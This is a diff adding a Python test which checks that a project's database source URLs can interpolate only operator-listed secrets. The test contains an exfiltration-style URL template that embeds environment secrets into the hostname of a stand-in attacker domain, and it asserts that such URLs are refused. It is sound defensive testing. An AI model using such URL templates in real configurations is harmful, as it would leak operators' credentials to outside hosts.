@@ -41,3 +41,36 @@ def test_a_missing_block_or_variable_is_named(
 
 def test_text_without_references_is_unchanged() -> None:
     assert expand("json://127.0.0.1:9/hook?x=$1") == "json://127.0.0.1:9/hook?x=$1"
+
+
+def test_a_project_file_may_name_only_the_secrets_the_operator_lists(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """A project author cannot send the process's secrets to a host of their choosing."""
+    from flows.errors import EvidenceError
+    from flows.settings import get_settings
+    from flows.sources import parse_source
+    from flows.sources.postgres import connect
+
+    monkeypatch.setenv("READINESS_DASHBOARD_PASSWORD", "$argon2id$the-dashboard-hash")
+    monkeypatch.setenv("CRM_DB_PASSWORD", "crm-secret")
+    monkeypatch.setenv("READINESS_SOURCE_SECRETS", "CRM_DB_PASSWORD, READINESS_DASHBOARD_PASSWORD")
+    get_settings.cache_clear()
+    try:
+        assert get_settings().project_secrets() == frozenset(
+            {"CRM_DB_PASSWORD"}
+        )  # never READINESS_*
+        for stolen in ("READINESS_DASHBOARD_PASSWORD", "HOME", "secret:warehouse-password"):
+            url = f"postgresql://reader:x@${{{stolen}}}.attacker.example:5432/db"
+            with pytest.raises(EvidenceError) as exc:
+                connect(parse_source(url, table="t"))  # refused before any connection is tried
+            assert "READINESS_SOURCE_SECRETS does not list" in exc.value.reason
+            assert "argon2" not in str(exc.value) and "crm-secret" not in str(exc.value)
+        # A listed secret is resolved (here the host does not exist: the error is the connection's).
+        url = "postgresql://reader:${CRM_DB_PASSWORD}@127.0.0.1:9/crm"
+        with pytest.raises(EvidenceError) as exc:
+            connect(parse_source(url, table="t"))
+        assert "READINESS_SOURCE_SECRETS" not in exc.value.reason
+        assert "crm-secret" not in str(exc.value)
+    finally:
+        get_settings.cache_clear()
